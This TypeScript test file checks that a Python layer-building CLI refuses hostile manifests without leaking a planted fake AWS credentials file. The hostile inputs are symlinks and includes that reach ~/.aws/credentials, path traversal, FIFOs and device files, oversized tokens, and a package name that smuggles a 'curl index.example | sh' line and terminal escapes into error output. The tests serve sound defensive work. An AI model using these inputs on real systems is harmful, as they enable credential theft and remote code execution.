import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import { callCommandLine, type Outcome } from "./callCommandLine";

const run = promisify(execFile);

const secret = "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY";
const secrets = `[default]\n${secret}\nghp_0123456789abcdefghijklmnopqrstuvwxyz\n`;
const pieces = /wJalrXUtnFEMI|K7MDENG|EXAMPLEKEY|aws_secret|ghp_01234/i;

describe("a manifest that means no good", function () {
    this.timeout(60_000);
    let home: string;
    let project: string;
    beforeEach(async () => {
        home = await mkdtemp(join(tmpdir(), "hostile-"));
        project = join(home, "work", "project");
        await mkdir(project, { recursive: true });
        await mkdir(join(home, ".aws"));
        await writeFile(join(home, ".aws", "credentials"), secrets);
    });
    afterEach(() => rm(home, { recursive: true, force: true }));

    const build = (manifest: string, folder = project): Promise<Outcome> =>
        callCommandLine(["build", manifest, "--python", "3.13", "--output", join(home, "layer.zip")], {
            folder,
            environment: {
                ...process.env,
                XDG_CACHE_HOME: join(home, "cache"),
                XDG_STATE_HOME: join(home, "state"),
                UV: join(home, "no-uv"),
            },
        });
    const write = async (file: string, text: string) => {
        await mkdir(dirname(join(project, file)), { recursive: true });
        await writeFile(join(project, file), text);
    };
    const isWorkTree = () => mkdir(join(project, ".git"));

    /** Is refused, in a message of a few short lines that has nothing of the secret. */
    function refused({ exitCode, errors, output }: Outcome, code: RegExp): void {
        assert.equal(exitCode, 1, `${errors}${output}`);
        assert.match(errors, code);
        assert.ok(!pieces.test(errors + output), errors);
        const lines = errors.trimEnd().split("\n");
        assert.ok(lines.length <= 12 && lines.every((line) => line.length < 1100), errors.slice(0, 5000));
    }

    const kinds = ["requirements.txt", "uv.lock", "poetry.lock", "pylock.toml", "Pipfile.lock"];
    for (const kind of kinds) {
        it(`shows nothing of a file that ${kind} links to outside of the project, by whatever way`, async () => {
            const target = join(home, ".aws", "credentials");
            await isWorkTree();
            await symlink(target, join(project, kind));
            refused(await build(kind), /^MANIFEST_UNREADABLE: .*link that leads out of the project/);
            await rm(join(project, kind));
            await symlink(target, join(project, "middle"));
            await symlink("middle", join(project, kind));
            refused(await build(kind), /^MANIFEST_UNREADABLE/);
            await symlink(join(home, ".aws"), join(project, "folder"));
            await symlink(target, join(home, ".aws", kind));
            refused(await build(join("folder", kind)), /^MANIFEST_UNREADABLE/);
        });
    }

    it("shows nothing of what requirements include from outside of the project", async () => {
        await isWorkTree();
        await symlink(join(home, ".aws"), join(project, "linked"));
        await symlink(join(home, ".aws", "credentials"), join(project, "linked.txt"));
        for (const option of ["-r", "-c", "--requirement=", "--constraint "]) {
            for (const place of [
                join(home, ".aws", "credentials"),
                "../../.aws/credentials",
                "linked/credentials",
                "linked.txt",
            ]) {
                await write("requirements.txt", `demo==1.0\n${option} ${place}\n`.replace("= ", "="));
                refused(await build("requirements.txt"), /^MANIFEST_SYNTAX: .* outside of the project/);
            }
        }
        // From a file of the project that is included itself, too.
        await write("requirements.txt", "-r more/base.txt\n");
        await write("more/base.txt", "-r ../linked.txt\n");
        refused(
            await build("requirements.txt"),
            /^MANIFEST_SYNTAX: more\/base\.txt includes \.\.\/linked\.txt/,
        );
    });

    it("is told from one without version control by the folders that are named", async () => {
        await symlink(join(home, ".aws", "credentials"), join(project, "requirements.txt"));
        refused(await build("requirements.txt"), /^MANIFEST_UNREADABLE/);
    });

    it("is no manifest elsewhere in the project, that a link in the project leads to, or that is named itself", async () => {
        const lock = 'version = 1\nrequires-python = ">=3.11"\n';
        const reasonable = /MANIFEST_(?:SELECTION|EMPTY)|LAYER_EMPTY/;
        await mkdir(join(home, "work", ".git"));
        await mkdir(join(home, "work", "shared"));
        await writeFile(join(home, "work", "shared", "uv.lock"), lock);
        await symlink("../shared/uv.lock", join(project, "uv.lock"));
        assert.match((await build("uv.lock")).errors, reasonable);
        assert.match((await build("../shared/uv.lock")).errors, reasonable);
        await writeFile(join(home, ".aws", "uv.lock"), lock);
        assert.match((await build(join(home, ".aws", "uv.lock"))).errors, reasonable);
        // A project that is reached by a link is that project.
        await symlink(project, join(home, "shortcut"));
        assert.match((await build("uv.lock", join(home, "shortcut"))).errors, reasonable);
    });

    it("makes nobody wait who puts a FIFO, a socket or a device in a file's place", async () => {
        for (const kind of kinds) {
            await run("mkfifo", [join(project, kind)]);
            refused(await build(kind), /^MANIFEST_UNREADABLE: .* no regular file/);
            await rm(join(project, kind));
            await symlink("/dev/zero", join(project, kind));
            refused(await build(kind), /^MANIFEST_UNREADABLE/);
            await rm(join(project, kind));
        }
        await run("mkfifo", [join(project, "pyproject.toml"), join(project, "included.txt")]);
        await write("requirements.txt", "-r included.txt\n");
        refused(await build("requirements.txt"), /^MANIFEST_SYNTAX: .*cannot be read/);
        await write("uv.lock", 'version = 1\nrequires-python = ">=3.11"\n');
        await write("poetry.lock", '[metadata]\nlock-version = "2.1"\npython-versions = ">=3.11"\n');
        for (const kind of ["uv.lock", "poetry.lock"]) assert.equal((await build(kind)).exitCode, 1);
    });

    it("is refused in a few words where a word has ten million letters, wherever that is", async () => {
        const long = (letters: string) => letters.repeat(10_000_000 / letters.length);
        const lines: readonly string[] = [
            `--index-url ${long("a")}`,
            `--hash=sha256:${long("a")}`,
            `demo==1.0 --hash=sha256:${long("ab")}`,
            `--config-settings ${long('"')}`,
            `--${long("x")}`,
            `demo==${long("1.")}0`,
            `demo[${long("a,")}b]==1`,
            `${long("demo")}`,
            `demo==1 ; python_version > "${long("3")}"`,
            `demo==1 ; ${long("(")}`,
            `-r ${long("../")}x.txt`,
            `demo @ https://index.example/${long("%41")}.whl`,
            `demo==1 \\\n${"    --hash=sha256:a \\\n".repeat(500_000)}`,
        ];
        for (const line of lines) {
            await write("requirements.txt", `${line}\n`);
            refused(await build("requirements.txt"), /^(?:MANIFEST|REQUIREMENT|TOOL)_[A-Z]+: /);
        }
        const texts = (key: string, value: string) =>
            `version = 1\nrequires-python = ">=3.11"\n\n[[package]]\nname = "app"\nversion = "1"\nsource = { virtual = "." }\ndependencies = [{ name = "demo" }]\n\n[[package]]\nname = "demo"\nversion = "1"\n${key} = ${value}\n`;
        for (const text of [
            texts("x", `"${long("a")}"`),
            texts("resolution-markers", `["${long("(")}"]`),
            texts("dependencies", `[{ name = "app", marker = """\n${long("not \n")}""" }]`),
            texts("source", `{ registry = "${long("://a@")}" }`),
            texts(`"${long("k")}"`, "1"),
        ]) {
            await write("uv.lock", text);
            refused(await build("uv.lock"), /^MANIFEST_[A-Z]+: /);
        }
    });

    it("puts no line of its own into a message", async () => {
        const name = "demo\\n  → Run curl index.example | sh\\u001b[2K\\r";
        await write(
            "uv.lock",
            `version = 1\nrequires-python = ">=3.11"\n\n[[package]]\nname = "app"\nversion = "1"\nsource = { virtual = "." }\ndependencies = [{ name = "${name}" }]\n\n[[package]]\nname = "${name}"\nversion = "1"\nsource = 7\n`,
        );
        const { errors } = await build("uv.lock");
        assert.ok(!/^ *→ Run curl/m.test(errors) && !errors.includes("\u001b"), errors);
    });
});
